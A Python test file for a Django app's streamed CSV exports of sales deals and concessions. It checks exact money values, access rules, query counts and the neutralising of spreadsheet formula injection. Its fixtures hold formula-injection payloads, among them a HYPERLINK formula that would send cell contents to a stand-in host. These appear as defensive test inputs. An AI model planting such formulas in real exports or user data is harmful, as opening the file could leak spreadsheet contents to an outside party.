"""export_deals, export_concessions: the dashboard's filter as streamed CSV, safe to open in a
spreadsheet (no formula injection) and exact to the cent."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from django.db import connection
from django.http import StreamingHttpResponse
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from deals import export, reports, services
from deals.access import Access
from deals.models import Deal

from .desk import HTMX
from .review import give

DEALS_URL = reverse("export_deals")
CONCESSIONS_URL = reverse("export_concessions")

DEAL_HEADER = [
    "id",
    "title",
    "customer",
    "team",
    "owner",
    "currency",
    "opening_price",
    "walk_away_floor",
    "cost_to_deliver",
    "conceded",
    "net",
    "room_used_percent",
    "level",
    "peak_level",
    "status",
    "final_price",
    "came_back",
    "walked_away_net",
    "gives_without_gets",
    "created_at",
    "last_activity",
    "closed_at",
]
CONCESSION_HEADER = [
    "id",
    "deal_id",
    "deal",
    "currency",
    "kind",
    "amount",
    "what_we_gave",
    "what_we_got_in_return",
    "logged_by",
    "logged_at",
    "retracts_id",
    "retraction_reason",
    "exception_request_id",
]


def stamp(value) -> str:
    return "" if value is None else timezone.localtime(value).isoformat(timespec="seconds")


def read_csv(response) -> list[list[str]]:
    assert isinstance(response, StreamingHttpResponse)
    body = b"".join(response.streaming_content).decode("utf-8")
    return list(csv.reader(io.StringIO(body)))


@pytest.fixture
def ledger(make_deal, owner, teammate):
    """Two deals whose user text tries to run formulas in a spreadsheet.

    Hostile: opening 10,000, floor 9,000, cost 7,000; gives 100 ("-Discount", nothing back,
    then retracted with reason "=1+1") and 250 ("@free onboarding", got "+three-year term"):
    conceded 250, net 9,750, 25% of room used.
    Quiet: EUR, tom's, no concession, walked away at its opening price.
    """
    hostile = make_deal(
        title='=HYPERLINK("http://x.example/?"&A1)', customer="+Inkwell", cost="7000"
    )
    give(hostile, "100", description="-Discount")
    services.concession_retract(concession=hostile.concessions.get(), user=owner, reason="=1+1")
    give(hostile, "250", description="@free onboarding", got="+three-year term")
    quiet = make_deal(user=teammate, title="Quiet", customer="-1+1", currency="EUR")
    services.deal_walk_away(deal=quiet, user=teammate, reason="No budget")
    for deal in (hostile, quiet):
        deal.refresh_from_db()
    return hostile, quiet


def test_the_deals_export_has_the_exact_header_and_rows(client, manager, ledger):
    hostile, quiet = ledger
    client.force_login(manager)
    response = client.get(DEALS_URL, {"status": "any"})
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == (
        f'attachment; filename="walkaway-deals-{timezone.localdate():%Y-%m-%d}.csv"'
    )
    assert read_csv(response) == [
        DEAL_HEADER,
        [
            str(hostile.pk),
            '\'=HYPERLINK("http://x.example/?"&A1)',
            "'+Inkwell",
            "Print & Packaging",
            "olivia",
            "USD",
            "10000.00",
            "9000.00",
            "7000.00",
            "250.00",
            "9750.00",
            "25.00",
            "on_track",
            "on_track",
            "open",
            "",
            "no",
            "",
            "0",
            stamp(hostile.created_at),
            stamp(hostile.updated_at),
            "",
        ],
        [
            str(quiet.pk),
            "Quiet",
            "'-1+1",
            "Print & Packaging",
            "tom",
            "EUR",
            "10000.00",
            "9000.00",
            "",
            "0.00",
            "10000.00",
            "0.00",
            "on_track",
            "on_track",
            "walked_away",
            "",
            "no",
            "10000.00",
            "0",
            stamp(quiet.created_at),
            stamp(quiet.updated_at),
            stamp(quiet.closed_at),
        ],
    ]


def test_the_concessions_export_keeps_retractions_as_negative_numbers(client, manager, ledger):
    hostile, _ = ledger
    first, retraction, second = hostile.concessions.order_by("pk")
    client.force_login(manager)
    response = client.get(CONCESSIONS_URL, {"status": "any"})
    assert response.status_code == 200
    assert response["Content-Disposition"] == (
        f'attachment; filename="walkaway-concessions-{timezone.localdate():%Y-%m-%d}.csv"'
    )
    title = '\'=HYPERLINK("http://x.example/?"&A1)'
    assert read_csv(response) == [
        CONCESSION_HEADER,
        [str(first.pk), str(hostile.pk), title, "USD", "price_discount", "100.00", "'-Discount",
         "", "olivia", stamp(first.created_at), "", "", ""],
        [str(retraction.pk), str(hostile.pk), title, "USD", "price_discount", "-100.00",
         "'-Discount", "", "olivia", stamp(retraction.created_at), str(first.pk), "'=1+1", ""],
        [str(second.pk), str(hostile.pk), title, "USD", "price_discount", "250.00",
         "'@free onboarding", "'+three-year term", "olivia", stamp(second.created_at), "", "",
         ""],
    ]  # fmt: skip


def test_gives_without_gets_count_standing_gives_only(client, manager, make_deal):
    deal = make_deal()
    give(deal, "100")
    give(deal, "100")
    give(deal, "100", got="A reference")
    services.concession_retract(
        concession=deal.concessions.order_by("pk").first(), user=deal.owner, reason="Twice"
    )
    client.force_login(manager)
    (_, row) = read_csv(client.get(DEALS_URL))
    assert row[DEAL_HEADER.index("gives_without_gets")] == "1"
    assert row[DEAL_HEADER.index("conceded")] == "200.00"


def test_an_approved_exception_below_the_floor_exports_exactly(client, manager, deal):
    give(deal, "1000")
    request = services.exception_request(
        deal=deal, user=deal.owner, kind="other", amount="0.01", description="A pen"
    )
    services.exception_approve(exception_request=request, user=manager, comment="Fine.")
    client.force_login(manager)
    (_, row) = read_csv(client.get(DEALS_URL))
    values = dict(zip(DEAL_HEADER, row, strict=True))
    assert (values["conceded"], values["net"], values["room_used_percent"]) == (
        "1000.01",
        "8999.99",
        "100.00",
    )
    assert values["level"] == "below_floor"
    (_, _, concession) = read_csv(client.get(CONCESSIONS_URL))
    assert concession[-1] == str(request.pk)


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("plain", "plain"),
        ("a=1", "a=1"),
        ("", ""),
    ],
)
def test_user_text_that_a_spreadsheet_would_run_is_neutralised(text, cell):
    assert export.text_cell(text) == cell


def test_money_we_write_ourselves_is_never_neutralised():
    assert export.money_cell(Decimal("-100.00")) == "-100.00"
    assert export.money_cell(Decimal("1E+3")) == "1000"
    assert export.money_cell(None) == ""


def test_the_export_follows_the_dashboard_filter(client, manager, ledger, teammate):
    client.force_login(manager)
    default = read_csv(client.get(DEALS_URL))
    assert [r[1] for r in default[1:]] == ['\'=HYPERLINK("http://x.example/?"&A1)']
    by_rep = read_csv(client.get(DEALS_URL, {"status": "any", "rep": teammate.pk}))
    assert [r[1] for r in by_rep[1:]] == ["Quiet"]
    assert read_csv(client.get(CONCESSIONS_URL, {"status": "walked_away"})) == [CONCESSION_HEADER]


def test_another_teams_manager_exports_none_of_our_deals(client, other_manager, ledger):
    client.force_login(other_manager)
    assert read_csv(client.get(DEALS_URL, {"status": "any"})) == [DEAL_HEADER]
    assert read_csv(client.get(CONCESSIONS_URL, {"status": "any"})) == [CONCESSION_HEADER]


@pytest.mark.parametrize("url", [DEALS_URL, CONCESSIONS_URL])
@pytest.mark.parametrize("persona", ["owner", "teammate", "outsider"])
def test_a_rep_gets_403(client, request, persona, url, ledger):
    client.force_login(request.getfixturevalue(persona))
    assert client.get(url).status_code == 403
    assert client.get(url, **HTMX).status_code == 403


@pytest.mark.parametrize("url", [DEALS_URL, CONCESSIONS_URL])
def test_exports_refuse_other_methods(client, manager, url):
    client.force_login(manager)
    assert client.post(url).status_code == 405


@pytest.mark.parametrize("url", [DEALS_URL, CONCESSIONS_URL])
def test_an_htmx_request_still_gets_a_file(client, manager, ledger, url):
    # A download has no fragment: the link is a plain link, and a CSV is never a page.
    client.force_login(manager)
    response = client.get(url, {"status": "any"}, **HTMX)
    assert response.status_code == 200
    assert b"<html" not in b"".join(response.streaming_content)


def export_queries(client, url) -> tuple[int, int]:
    with CaptureQueriesContext(connection) as captured:
        rows = read_csv(client.get(url, {"status": "any"}))
    return len(captured), len(rows)


@pytest.mark.parametrize("url", [DEALS_URL, CONCESSIONS_URL])
def test_the_query_count_does_not_grow_with_the_number_of_deals(client, manager, make_deal, url):
    def add(n):
        for _ in range(n):
            give(make_deal(), "100")

    client.force_login(manager)
    add(3)
    small, small_rows = export_queries(client, url)
    add(27)
    large, large_rows = export_queries(client, url)
    assert (small_rows, large_rows) == (4, 31)
    assert small == large
    assert large <= 5


def test_rows_are_read_lazily_in_chunks(manager, make_deal, monkeypatch, django_assert_num_queries):
    for _ in range(5):
        make_deal()
    monkeypatch.setattr(reports, "EXPORT_CHUNK", 2)
    deals = Deal.objects.managed_by(Access.of(manager))
    with django_assert_num_queries(0):
        rows = reports.deal_export_rows(deals)
    assert len(list(rows)) == 5


def test_rows_leave_in_bounded_blocks_that_add_up_to_the_whole_file():
    rows = [[f"row {i}", "x" * 50] for i in range(100)]
    blocks = list(export.csv_lines(["name", "filler"], rows, block_chars=500))
    assert len(blocks) > 5
    assert all(len(block) < 500 + 100 for block in blocks)
    parsed = list(csv.reader(io.StringIO("".join(blocks))))
    assert parsed == [["name", "filler"], *rows]
